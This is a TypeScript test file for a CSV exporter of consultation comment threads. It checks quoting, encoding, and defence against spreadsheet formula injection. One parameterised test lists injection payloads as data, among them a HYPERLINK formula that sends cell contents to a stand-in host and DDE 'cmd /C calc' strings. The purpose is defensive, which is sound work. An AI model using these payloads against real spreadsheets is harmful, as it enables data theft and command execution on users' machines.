import { type Author, openThread, replyToThread, resolveThread } from '@roundtable/profile';
import { describe, expect, it } from 'vitest';
import { commentMatrixCsv } from './commentMatrixCsv.ts';

const author = (name: string, role: Author['role'] = 'participant'): Author => ({
  personId: name,
  name,
  organisation: 'Ministry of Labour, "Migration" Unit',
  organisationId: 'min-labour',
  role,
});

describe('commentMatrixCsv', () => {
  it("writes one row per thread with the facilitators' decision, quoting every cell", () => {
    let thread = openThread(
      {
        id: 't1',
        commentId: 'c1',
        consultationId: 'demo',
        indicatorId: '4.2',
        type: 'missing-source',
        body: 'Cite Decree 7.',
        proposedText: 'Decree No. 7/2024',
      },
      author('Amina'),
      '2026-11-27T10:00:00.000Z',
    );
    thread = replyToThread(thread, 'c2', 'Agreed, line 3', author('Boris'), '2026-11-27T10:01:00.000Z');
    thread = resolveThread(
      thread,
      { outcome: 'accepted-with-changes', response: 'Added.' },
      author('Fatou', 'facilitator'),
      '2026-11-27T10:02:00.000Z',
    );
    const csv = commentMatrixCsv([thread]);
    expect(csv.startsWith('\uFEFF"Thread","Domain","Indicator"')).toBe(true);
    const row = csv.split('\r\n')[1] ?? '';
    expect(row).toContain('"4","4.2","Missing source"');
    expect(row).toContain('"Ministry of Labour, ""Migration"" Unit"');
    expect(row).toContain('"Accepted with changes","Added.","Fatou"');
    expect(row).toContain('Boris (Ministry of Labour, ""Migration"" Unit): Agreed, line 3');
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a full-width =', '\uFF1D1+1'],
  ])('keeps a cell starting with %s as text: a leading quote, never a formula', (_start, payload) => {
    const thread = openThread(
      { id: 't', commentId: 'c', consultationId: 'demo', indicatorId: '1.1', type: 'editorial', body: 'x' },
      author('Eve'),
      '2026-11-27T10:00:00.000Z',
    );
    // The comment's text is trimmed by the rules, so the payload goes where text is kept as written.
    const withPayload = { ...thread, anchor: { start: 'AAAA', end: 'AAAA', quote: payload } };
    const cells = rowCells(commentMatrixCsv([withPayload]));
    expect(cells[7]).toBe(`'${payload}`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D]/);
  });

  it('leaves text with those characters later in the cell as it is', () => {
    const thread = openThread(
      { id: 't', commentId: 'c', consultationId: 'demo', indicatorId: '1.1', type: 'editorial', body: 'a = b - c' },
      author('Eve'),
      '2026-11-27T10:00:00.000Z',
    );
    expect(rowCells(commentMatrixCsv([thread]))[8]).toBe('a = b - c');
  });

  it('starts with a UTF-8 BOM and ends every row with CRLF, empty cells quoted too', () => {
    const csv = commentMatrixCsv([]);
    expect(csv.startsWith('\uFEFF"Thread",')).toBe(true);
    expect(csv.endsWith('"Resolved at"\r\n')).toBe(true);
    const thread = openThread(
      { id: 't', commentId: 'c', consultationId: 'demo', indicatorId: '1.1', type: 'editorial', body: 'x' },
      author('Eve'),
      '2026-11-27T10:00:00.000Z',
    );
    expect(commentMatrixCsv([thread]).split('\r\n')[1]).toContain(',"",');
  });
});

/** The cells of the first data row, unquoted (test support: no cell here holds a newline). */
function rowCells(csv: string): string[] {
  const row = csv.split('\r\n')[1] ?? '';
  return [...row.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => (m[1] ?? '').replaceAll('""', '"'));
}
